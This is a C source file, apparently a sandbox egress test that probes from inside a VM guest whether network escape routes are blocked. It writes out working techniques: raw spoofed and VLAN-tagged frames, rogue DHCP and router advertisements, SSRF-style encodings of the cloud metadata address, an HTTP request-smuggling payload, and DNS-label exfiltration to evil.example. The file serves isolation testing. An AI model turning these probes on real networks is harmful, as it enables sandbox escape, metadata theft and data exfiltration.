/*
 * Ways out of a guest, tried by its root, one line each:
 *
 *   probe NUMBER NAME TARGET RESULT
 *
 * TARGET is what a server that was reached would log (tests/world/decoy.h), "-" where
 * none could. RESULT is "refused" (an error at once, or an answer that says no), "silent",
 * or "REACHED". Numbers are those of the list in docs/network.md.
 *
 * probe LINK MAC [control]: frames go out by LINK to MAC. With "control" the same is done
 * where the servers can be reached, and nothing is asked of a gateway: what is reached then
 * is what a guest's probe would have reached. Static, for any image.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/vm_sockets.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define GATEWAY "10.200.0.1"
enum { WAIT_MS = 4000, ANSWER_MS = 6000 };

struct probe {
	int number;
	const char *name, *address;
	int port;
};

static bool control;

static void tell(int number, const char *name, const char *target, const char *result)
{
	printf("probe %d %s %s %s\n", number, name, target, result);
	fflush(stdout);
}

static long long now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000LL + t.tv_nsec / 1000000;
}

/* Address of either family; its length. */
static socklen_t parse(const char *text, int port, const char *link, struct sockaddr_storage *out)
{
	struct sockaddr_in *four = (struct sockaddr_in *)out;
	struct sockaddr_in6 *six = (struct sockaddr_in6 *)out;

	memset(out, 0, sizeof(*out));
	if (inet_pton(AF_INET, text, &four->sin_addr) == 1) {
		four->sin_family = AF_INET;
		four->sin_port = htons((uint16_t)port);
		return sizeof(*four);
	}
	inet_pton(AF_INET6, text, &six->sin6_addr);
	six->sin6_family = AF_INET6;
	six->sin6_port = htons((uint16_t)port);
	six->sin6_scope_id = IN6_IS_ADDR_LINKLOCAL(&six->sin6_addr) ? if_nametoindex(link) : 0;
	return sizeof(*six);
}

/* 1-26: connections, all at once. */

static const struct probe tcp[] = {
	{ 1, "gateway-ssh", GATEWAY, 22 },
	{ 3, "gateway-rpc", GATEWAY, 111 },
	{ 4, "gateway-4444", GATEWAY, 4444 },
	{ 6, "host-lan", "10.99.0.1", 80 },
	{ 7, "host-public", "93.184.216.2", 80 },
	{ 8, "host-bridge", "172.17.0.1", 80 },
	{ 9, "other-guest", "10.200.0.6", 80 },
	{ 10, "other-gateway", "10.200.0.5", 80 },
	{ 11, "other-proxy", "10.200.0.5", 3128 },
	{ 12, "lan-192", "192.168.1.1", 80 },
	{ 13, "lan-10", "10.1.2.3", 80 },
	{ 14, "lan-172", "172.16.0.1", 80 },
	{ 15, "shared-100.64", "100.64.0.1", 80 },
	{ 16, "metadata", "169.254.169.254", 80 },
	{ 17, "metadata-mapped", "::ffff:169.254.169.254", 80 },
	{ 20, "ula", "fd00::1", 80 },
	{ 21, "global-v6", "2606:2800:221::80", 80 },
	{ 24, "dns-tcp", "8.8.8.8", 53 },
	{ 25, "dns-tls", "8.8.8.8", 853 },
	{ 26, "dns-https", "8.8.8.8", 443 },
	{ 41, "plain-https", "1.1.1.1", 443 },
	{ 42, "plain-ssh", "1.1.1.1", 22 },
	{ 43, "mail", "1.1.1.1", 25 },
	{ 44, "allowed-address", "93.184.216.80", 443 },
	{ 45, "unspecified", "0.0.0.1", 80 },
	{ 46, "class-e", "240.0.0.1", 80 },
	{ 47, "benchmark", "198.19.255.254", 80 },
};
enum { TCPS = sizeof(tcp) / sizeof(*tcp) };

static void target_of(const struct probe *p, char out[80])
{
	if (strchr(p->address, ':') && strncmp(p->address, "::ffff:", 7) != 0)
		snprintf(out, 80, "[%s]:%d", p->address, p->port);
	else
		snprintf(out, 80, "%s:%d", strchr(p->address, ':') ? p->address + 7 : p->address, p->port);
}

/* The gateway takes a connection before it looks where it goes, and resets it: one that was
 * made is refused by that, and reached somebody where it gets an answer, or neither. */
static void connections(const char *link)
{
	struct pollfd fds[TCPS];
	long long end = now() + WAIT_MS, left;
	char target[80], answer;
	int open = 0;

	for (int i = 0; i < TCPS; i++) {
		struct sockaddr_storage a;
		socklen_t len = parse(tcp[i].address, tcp[i].port, link, &a);

		fds[i].fd = socket(a.ss_family, SOCK_STREAM | SOCK_NONBLOCK, 0);
		fds[i].events = POLLOUT;
		if (fds[i].fd >= 0 && (connect(fds[i].fd, (struct sockaddr *)&a, len) == 0 || errno == EINPROGRESS)) {
			open++;
			continue;
		}
		target_of(&tcp[i], target);
		tell(tcp[i].number, tcp[i].name, target, "refused");
		close(fds[i].fd);
		fds[i].fd = -1;
	}
	while (open && (left = end - now()) > 0 && poll(fds, TCPS, (int)left) > 0)
		for (int i = 0; i < TCPS; i++) {
			int e = 0;
			socklen_t len = sizeof(e);

			if (fds[i].fd < 0 || !fds[i].revents)
				continue;
			getsockopt(fds[i].fd, SOL_SOCKET, SO_ERROR, &e, &len);
			if (!e && fds[i].events == POLLOUT) {
				if (send(fds[i].fd, "GET /probe HTTP/1.0\r\n\r\n", 23, MSG_NOSIGNAL) > 0) {
					fds[i].events = POLLIN;
					continue;
				}
				e = errno;
			}
			if (!e && recv(fds[i].fd, &answer, 1, 0) <= 0)
				e = ECONNRESET;
			target_of(&tcp[i], target);
			tell(tcp[i].number, tcp[i].name, target, e ? "refused" : "REACHED");
			fds[i].fd = -1;
			open--;
		}
	for (int i = 0; i < TCPS; i++)
		if (fds[i].fd >= 0) {
			target_of(&tcp[i], target);
			tell(tcp[i].number, tcp[i].name, target, fds[i].events == POLLIN ? "REACHED" : "silent");
		}
}

/* Datagrams: whether they arrived is for the log to say. */
static void datagrams(const char *link)
{
	static const struct probe udp[] = {
		{ 23, "dns-udp", "8.8.8.8", 53 },       { 34, "mdns", "224.0.0.251", 5353 },
		{ 48, "quic", "1.1.1.1", 443 },         { 49, "ntp", "1.1.1.1", 123 },
		{ 34, "broadcast", "255.255.255.255", 5353 }, { 51, "metadata-udp", "169.254.169.254", 123 },
	};
	static const uint8_t query[] = "\x12\x34\x01\0\0\1\0\0\0\0\0\0\7exfiltr\6secret\7example\0\0\1\0\1";
	int on = 1;

	for (size_t i = 0; i < sizeof(udp) / sizeof(*udp); i++) {
		struct sockaddr_storage a;
		socklen_t len = parse(udp[i].address, udp[i].port, link, &a);
		int fd = socket(AF_INET, SOCK_DGRAM, 0);
		char target[80], got[512];
		struct pollfd p = { .fd = fd, .events = POLLIN };
		bool answer;

		setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &on, sizeof(on));
		target_of(&udp[i], target);
		if (connect(fd, (struct sockaddr *)&a, len) < 0 || send(fd, query, sizeof(query) - 1, 0) < 0) {
			tell(udp[i].number, udp[i].name, target, "refused");
			close(fd);
			continue;
		}
		answer = poll(&p, 1, udp[i].port == 53 ? 1500 : 300) > 0;
		if (answer && recv(fd, got, sizeof(got), 0) < 0)
			tell(udp[i].number, udp[i].name, target, "refused");
		else
			tell(udp[i].number, udp[i].name, target, answer ? "REACHED" : "silent");
		close(fd);
	}
}

/* Frames, made by hand. */

struct frame {
	uint8_t bytes[600];
	size_t n;
};

static void add(struct frame *f, const void *data, size_t n)
{
	memcpy(f->bytes + f->n, data, n);
	f->n += n;
}

static uint16_t sum(const uint8_t *p, size_t n)
{
	uint32_t s = 0;

	for (size_t i = 0; i + 1 < n; i += 2)
		s += (uint32_t)(p[i] << 8 | p[i + 1]);
	s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~(s + (s >> 16));
}

static void ether(struct frame *f, const uint8_t to[6], const uint8_t from[6], uint16_t type)
{
	uint16_t t = htons(type);

	f->n = 0;
	add(f, to, 6);
	add(f, from, 6);
	add(f, &t, 2);
}

/* An IPv4 packet with options and a payload; frag is flags and offset as on the wire. */
static void ip(struct frame *f, const char *from, const char *to, uint8_t protocol, uint16_t frag,
	       const void *options, size_t n_options, const void *data, size_t n)
{
	uint8_t h[60] = { (uint8_t)(0x45 + n_options / 4), 0, 0, 0, 0x42, 0x42, (uint8_t)(frag >> 8), (uint8_t)frag, 64, protocol };
	size_t len = 20 + n_options;
	uint16_t total = htons((uint16_t)(len + n)), check;

	memcpy(h + 2, &total, 2);
	inet_pton(AF_INET, from, h + 12);
	inet_pton(AF_INET, to, h + 16);
	memcpy(h + 20, options, n_options);
	check = htons(sum(h, len));
	memcpy(h + 10, &check, 2);
	add(f, h, len);
	add(f, data, n);
}

static int raw_socket(const char *link)
{
	struct sockaddr_ll a = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL),
				 .sll_ifindex = (int)if_nametoindex(link) };
	int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));

	return fd >= 0 && bind(fd, (struct sockaddr *)&a, sizeof(a)) == 0 ? fd : -1;
}

static void shoot(int fd, const struct frame *f, int number, const char *name, const char *target)
{
	/* Sent is all that can be known here. */
	tell(number, name, target, send(fd, f->bytes, f->n, 0) == (ssize_t)f->n ? "silent" : "refused");
}

static void frames(int fd, const uint8_t gw[6], const uint8_t me[6])
{
	static const uint8_t all[6] = { 255, 255, 255, 255, 255, 255 }, other[6] = { 2, 0xfc, 0, 0, 0, 0x77 },
			     multi6[6] = { 0x33, 0x33, 0, 0, 0, 1 };
	static const uint8_t echo[16] = "\x08\0\xb3\xb1\0\1\0\1LEAKLEAK", udp[24] = "\x13\x88\0\x7b\0\x18\0\0LEAKLEAKLEAKLEAK",
			     syn[20] = "\x13\x88\0\x50\0\0\0\1\0\0\0\0\x50\x02\x72\x10\0\0\0\0",
			     route[12] = "\x83\x0b\x04\x01\x01\x01\x01\x08\x08\x08\x08\0", record[8] = "\x07\x07\x04\0\0\0\0\0",
			     dhcp[40] = "\0\x44\0\x43\0\x28\0\0\1\1\6\0LEAK";
	static const uint8_t arp[28] = { 0, 1, 8, 0, 6, 4, 0, 2, 2, 0xfc, 0, 0, 0, 0x77, 10, 200, 0, 1,
					 2, 0xfc, 0, 0, 0, 0x77, 10, 200, 0, 1 };
	static const uint8_t ra[56] = "\x60\0\0\0\0\x10\x3a\xff\xfe\x80\0\0\0\0\0\0\0\0\0\0\0\0\0\2\xff\2\0\0\0\0\0\0\0\0\0\0\0\0\0\1\x86";
	struct frame f;

	ether(&f, gw, me, ETH_P_IP);
	ip(&f, "10.200.0.2", "127.0.0.1", 6, 0, "", 0, syn, 20);
	shoot(fd, &f, 5, "loopback-by-wire", "127.0.0.1:80");
	ether(&f, gw, me, ETH_P_IP);
	ip(&f, "10.200.0.2", "8.8.8.8", 1, 0, "", 0, echo, 16);
	shoot(fd, &f, 28, "icmp-echo", "leak");
	for (int i = 0; i < 3; i++) {
		static const uint8_t protocols[] = { 47, 132, 253 };

		ether(&f, gw, me, ETH_P_IP);
		ip(&f, "10.200.0.2", "8.8.8.8", protocols[i], 0, "", 0, "LEAKLEAKLEAKLEAK", 16);
		shoot(fd, &f, 29, i == 0 ? "raw-gre" : i == 1 ? "raw-sctp" : "raw-253", "leak");
	}
	ether(&f, gw, me, ETH_P_IP);
	ip(&f, "10.200.0.6", "8.8.8.8", 17, 0, "", 0, udp, 24);
	shoot(fd, &f, 30, "spoofed-address", "leak");
	ether(&f, gw, other, ETH_P_IP);
	ip(&f, "10.200.0.2", "8.8.8.8", 17, 0, "", 0, udp, 24);
	shoot(fd, &f, 31, "spoofed-mac", "leak");
	ether(&f, gw, me, ETH_P_IP);
	ip(&f, "192.168.1.77", "192.168.1.1", 17, 0, "", 0, udp, 24);
	shoot(fd, &f, 33, "second-address", "leak");
	for (int i = 0; i < 2; i++) {
		static const uint8_t tag[] = { 0, 5, 8, 0 }, tags[] = { 0, 5, 0x81, 0, 0, 6, 8, 0 };

		ether(&f, gw, me, ETH_P_8021Q);
		add(&f, i ? tags : tag, i ? 8 : 4);
		ip(&f, "10.200.0.2", "8.8.8.8", 17, 0, "", 0, udp, 24);
		shoot(fd, &f, 35, i ? "qinq" : "vlan", "leak");
	}
	for (int i = 0; i < 2; i++) {
		ether(&f, gw, me, ETH_P_IP);
		ip(&f, "10.200.0.2", "8.8.8.8", 17, i ? 1 : 0x2000, "", 0, udp, 8);
		shoot(fd, &f, 36, i ? "fragment-overlap" : "fragment-tiny", "leak");
	}
	ether(&f, gw, me, ETH_P_IP);
	ip(&f, "10.200.0.2", "10.200.0.1", 17, 0, route, 12, udp, 24);
	shoot(fd, &f, 37, "source-route", "leak");
	ether(&f, gw, me, ETH_P_IP);
	ip(&f, "10.200.0.2", "8.8.8.8", 17, 0, record, 8, udp, 24);
	shoot(fd, &f, 37, "record-route", "leak");
	ether(&f, all, me, ETH_P_IP);
	ip(&f, "0.0.0.0", "255.255.255.255", 17, 0, "", 0, dhcp, 40);
	shoot(fd, &f, 40, "dhcp", "leak");
	ether(&f, multi6, me, ETH_P_IPV6);
	add(&f, ra, 56);
	shoot(fd, &f, 22, "router-advertisement", "-");
	ether(&f, all, other, ETH_P_ARP);
	add(&f, arp, 28);
	shoot(fd, &f, 32, "gratuitous-arp", "-");
}

/* What the gateway is asked for. */

static int connect_to(const char *address, int port)
{
	struct sockaddr_storage a;
	socklen_t len = parse(address, port, "lo", &a);
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	struct timeval t = { ANSWER_MS / 1000, 0 };

	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof(t));
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &t, sizeof(t));
	if (connect(fd, (struct sockaddr *)&a, len) == 0)
		return fd;
	close(fd);
	return -1;
}

static ssize_t talk(int fd, const char *text, char *out, size_t cap)
{
	size_t n = 0;
	ssize_t got;

	if (send(fd, text, strlen(text), MSG_NOSIGNAL) < 0)
		return -1;
	while (n < cap - 1 && (got = recv(fd, out + n, cap - 1 - n, 0)) > 0)
		n += (size_t)got;
	out[n] = '\0';
	return (ssize_t)n;
}

static void by_proxy(void)
{
	static const struct { int number; const char *name, *text, *target; } asks[] = {
		{ 2, "gateway-http", "@GET / HTTP/1.0\r\nHost: 10.200.0.1\r\n\r\n", "10.200.0.1:80" },
		{ 5, "proxy-loopback", "CONNECT 127.0.0.1:80 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", "127.0.0.1:80" },
		{ 5, "proxy-localhost", "CONNECT localhost:80 HTTP/1.1\r\nHost: localhost\r\n\r\n", "127.0.0.1:80" },
		{ 18, "proxy-decimal", "CONNECT 2852039166:80 HTTP/1.1\r\nHost: 2852039166\r\n\r\n", "169.254.169.254:80" },
		{ 18, "proxy-hex", "GET http://0xa9fea9fe/ HTTP/1.1\r\nHost: 0xa9fea9fe\r\n\r\n", "169.254.169.254:80" },
		{ 18, "proxy-octal", "GET http://0251.0376.0251.0376/ HTTP/1.1\r\nHost: 0251.0376.0251.0376\r\n\r\n", "169.254.169.254:80" },
		{ 18, "proxy-mapped", "CONNECT [::ffff:169.254.169.254]:80 HTTP/1.1\r\nHost: [::ffff:169.254.169.254]\r\n\r\n", "169.254.169.254:80" },
		{ 38, "proxy-other-host", "GET http://ok.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n", "evil.example" },
		{ 39, "proxy-denied-port", "CONNECT ok.example:22 HTTP/1.1\r\nHost: ok.example\r\n\r\n", "93.184.216.80:22" },
		{ 39, "proxy-smuggling", "POST http://ok.example/ HTTP/1.1\r\nHost: ok.example\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: evil.example\r\n\r\n", "smuggled" },
		{ 39, "proxy-internal-name", "GET http://a-127-0-0-1.lan.example/ HTTP/1.1\r\nHost: a-127-0-0-1.lan.example\r\n\r\n", "127.0.0.1:80" },
		{ 39, "proxy-metadata-name", "GET http://a-169-254-169-254.lan.example/ HTTP/1.1\r\nHost: a-169-254-169-254.lan.example\r\n\r\n", "169.254.169.254:80" },
		{ 39, "proxy-own-address", "GET http://a-93-184-216-2.lan.example/ HTTP/1.1\r\nHost: a-93-184-216-2.lan.example\r\n\r\n", "93.184.216.2:80" },
		{ 52, "broker-other-host", "@GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n", "evil.example" },
		{ 52, "broker-no-provider", "@GET / HTTP/1.1\r\nHost: evil.vmdeck\r\n\r\n", "evil" },
		{ 53, "proxy-not-http", "SSH-2.0-probe\r\n\r\n", "SSH-2.0-probe" },
	};

	for (size_t i = 0; i < sizeof(asks) / sizeof(*asks); i++) {
		bool broker = asks[i].text[0] == '@';
		int fd = connect_to(GATEWAY, broker ? 80 : 3128);
		char got[4096] = "";
		ssize_t n = fd < 0 ? -1 : talk(fd, asks[i].text + broker, got, sizeof(got));

		/* 200 would be the other side's word. No answer but a closed connection is a refusal. */
		tell(asks[i].number, asks[i].name, asks[i].target,
		     n > 0 && (strstr(got, " 200 ") || strstr(got, "decoy")) ? "REACHED" : "refused");
		close(fd);
	}
}

/* One question over UDP: the code of the answer, -1 for none; an address in *out. */
static int ask(const char *name, int type, struct in_addr *out)
{
	uint8_t q[512] = "\x12\x34\x01\0\0\1\0\0\0\0\0\0", r[1500];
	size_t n = 12;
	struct sockaddr_storage a;
	socklen_t len = parse(GATEWAY, 53, "lo", &a);
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	struct timeval t = { ANSWER_MS / 1000, 0 };
	ssize_t got;

	for (const char *p = name; *p; ) {
		size_t k = strcspn(p, ".");

		q[n++] = (uint8_t)k;
		memcpy(q + n, p, k);
		n += k;
		p += k + (p[k] == '.');
	}
	q[n++] = 0;
	memcpy(q + n, (uint8_t[]){ 0, (uint8_t)type, 0, 1 }, 4);
	n += 4;
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof(t));
	connect(fd, (struct sockaddr *)&a, len);
	got = send(fd, q, n, 0) < 0 ? -1 : recv(fd, r, sizeof(r), 0);
	close(fd);
	if (got < 12)
		return -1;
	out->s_addr = 0;
	if (r[7] && got >= (ssize_t)n + 16)
		memcpy(out, r + n + 12, 4);
	return r[3] & 15;
}

static void names(void)
{
	static const struct { int number; const char *name, *host; int type; } asks[] = {
		{ 27, "txt-label", "s3cr3t-label-1.evil.example", 16 },
		{ 27, "a-label", "s3cr3t-label-2.evil.example", 1 },
		{ 27, "label-below-allowed", "s3cr3t-label-3.ok.example", 1 },
		{ 27, "any-label", "s3cr3t-label-4.evil.example", 255 },
		{ 54, "txt-of-allowed", "ok.example", 16 },
		{ 54, "null-of-allowed", "ok.example", 10 },
	};
	struct in_addr a;

	for (size_t i = 0; i < sizeof(asks) / sizeof(*asks); i++) {
		int code = ask(asks[i].host, asks[i].type, &a);

		tell(asks[i].number, asks[i].name, asks[i].number == 54 ? "-" : "s3cr3t-label",
		     a.s_addr ? "REACHED" : code < 0 ? "silent" : "refused");
	}
	/* An allowed name's address, for what is not allowed of it. */
	if (ask("ok.example", 1, &a) == 0 && a.s_addr) {
		char text[32], got[4096] = "";
		int fd = connect_to(inet_ntop(AF_INET, &a, text, sizeof(text)), 80);

		if (fd >= 0)
			talk(fd, "GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n", got, sizeof(got));
		tell(38, "allowed-address-other-host", "evil.example", strstr(got, " 200 ") ? "REACHED" : "refused");
		close(fd);
		fd = connect_to(text, 22);
		tell(38, "allowed-address-other-port", "93.184.216.80:22", fd >= 0 ? "REACHED" : "refused");
		close(fd);
	} else {
		tell(0, "allowed-name", "-", "NOT-ANSWERED");
	}
}

static void devices(void)
{
	struct sockaddr_vm a = { .svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_HOST, .svm_port = 1024 };
	int fd = socket(AF_VSOCK, SOCK_STREAM, 0);

	tell(40, "vsock-host", "-", fd >= 0 && connect(fd, (struct sockaddr *)&a, sizeof(a)) == 0 ? "REACHED" : "refused");
	close(fd);
	for (int port = 1; port <= 31; port++) {
		char path[64];
		int n = 0;

		for (int device = 0; device < 4; device++) {
			snprintf(path, sizeof(path), "/dev/vport%dp%d", device, port);
			n += access(path, F_OK) == 0;
		}
		if (port > 2 && n)
			tell(40, "undeclared-port", path, "REACHED");
	}
	tell(40, "undeclared-ports", "-", "refused");
}

static void link_local(const char *link)
{
	static const int ports[] = { 22, 80, 443, 3128 };
	bool reached = false;

	for (size_t i = 0; i < sizeof(ports) / sizeof(*ports); i++) {
		struct sockaddr_storage a;
		socklen_t len = parse("fe80::1", ports[i], link, &a);
		int fd = socket(AF_INET6, SOCK_STREAM | SOCK_NONBLOCK, 0);
		struct pollfd p = { .fd = fd, .events = POLLOUT };
		int e = 0;
		socklen_t n = sizeof(e);

		if (fd < 0 || (connect(fd, (struct sockaddr *)&a, len) < 0 && errno != EINPROGRESS))
			continue;
		if (poll(&p, 1, 500) > 0 && getsockopt(fd, SOL_SOCKET, SO_ERROR, &e, &n) == 0 && !e)
			reached = true;
		close(fd);
	}
	tell(19, "link-local-v6", "-", reached ? "REACHED" : "refused");
}

int main(int argc, char **argv)
{
	uint8_t gw[6], me[6] = { 2, 0xfc, 0, 0, 0, 2 };
	struct ifreq r = { 0 };
	unsigned m[6];
	int fd;

	if (argc < 3 || sscanf(argv[2], "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6)
		return 2;
	for (int i = 0; i < 6; i++)
		gw[i] = (uint8_t)m[i];
	control = argc > 3;
	fd = raw_socket(argv[1]);
	if (fd < 0) {
		perror(argv[1]);
		return 1;
	}
	snprintf(r.ifr_name, sizeof(r.ifr_name), "%s", argv[1]);
	if (ioctl(fd, SIOCGIFHWADDR, &r) == 0)
		memcpy(me, r.ifr_hwaddr.sa_data, 6);
	connections(argv[1]);
	datagrams(argv[1]);
	frames(fd, gw, me);
	if (!control) {
		link_local(argv[1]);
		by_proxy();
		names();
		devices();
	}
	return 0;
}
